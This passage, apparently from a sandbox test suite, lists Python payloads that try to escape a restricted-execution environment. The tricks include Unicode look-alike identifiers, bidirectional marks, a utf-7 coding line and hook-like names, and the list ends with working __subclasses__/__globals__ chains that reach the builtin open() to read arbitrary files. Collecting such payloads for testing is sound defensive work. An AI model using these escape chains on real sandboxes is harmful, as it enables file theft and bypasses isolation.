𝕖𝕩𝕖𝕔("x = 1", {})
return won
## a full-width low line before a name
return won if self._p＿changed != 5 else 0
## a full-width low line in a dunder
return self._＿class＿＿.__init__ and won
## a vertical low line
return won if self._︳class︴︴ else 0
## a wavy low line
return won if self._p﹏changed != 5 else 0
## the dashed low line of old
return won if self._﹍class﹍﹍ else 0
## the receiver written in another alphabet
ｓelf._name = 'poisoned'
return won
## the flag written in another alphabet
ｓelf._p_ｃhanged = False
return won
## a computed look-alike?
return won if getattr(self, '＿slots') else 0
## a computed dunder in full width?
return won if getattr((), '＿＿class＿＿') else 0
## setattr with a look-alike
setattr(self, '＿p_changed', False)
return won
## a keyword in full width is a name
ｒeturn = open
return ｒeturn(path).read()
## a ligature
f = eval
return f("oﬁ" if 0 else "open(path).read()", {'path': path})
## an argument called like a hook
def inner(_getattr＿=won):
    return _getattr＿
return inner()
## a lambda's argument called like a hook
return (lambda _send_0＿: _send_0＿)(won)
## an except name called like a hook
try:
    1 / 0
except ZeroDivisionError as _getattr＿:
    return won
## an import in another alphabet
from ｏs import open as o, read as r
return r(o(path, 0), 100)
## a walrus onto a hook
return (_getattr＿ := won)
## a for target onto a hook
for _write＿ in [won]:
    pass
return _write＿
## a with target onto a hook
with open(path) as _send_1＿:
    return _send_1＿.read()
## a global onto a hook
global _kind＿
_kind＿ = won
return _kind＿
## a match capture onto a hook
match won:
    case _tick＿:
        return _tick＿
## a star capture onto a hook
match [won]:
    case [*_tick＿]:
        return _tick＿[0]
## a mapping's rest onto a hook
match {'a': won}:
    case {**_tick＿}:
        return _tick＿['a']
## a function called like a hook
def _send_n＿(*a):
    return won
return _send_n＿()
## bidirectional marks hide code?
x = 'a' # ‮ ⁦ return open(path) ⁩
return open(path).read()
## a coding line
# -*- coding: utf-7 -*-
return open(path).read()
## a form feed and a line continuation
return \
    open(path).read()
## a null in the text?
return open(path).read() or '\0'
## a backslash-escaped name in a string
return [c for c in getattr((), '\x5f\x5fclass\x5f\x5f').__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
## a named character in a string
return [c for c in getattr((), '\N{LOW LINE}\N{LOW LINE}class__').__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']['open'](path).read()
""",
)

PAYLOADS = [
    *WALKS, *FRAMES, *GENERATORS, *FORMATS, *DESCRIPTORS, *GLOBALS, *EXCEPTIONS, *METACLASSES, *PICKLES,
    *LOOK_ALIKES,
]  # fmt: skip
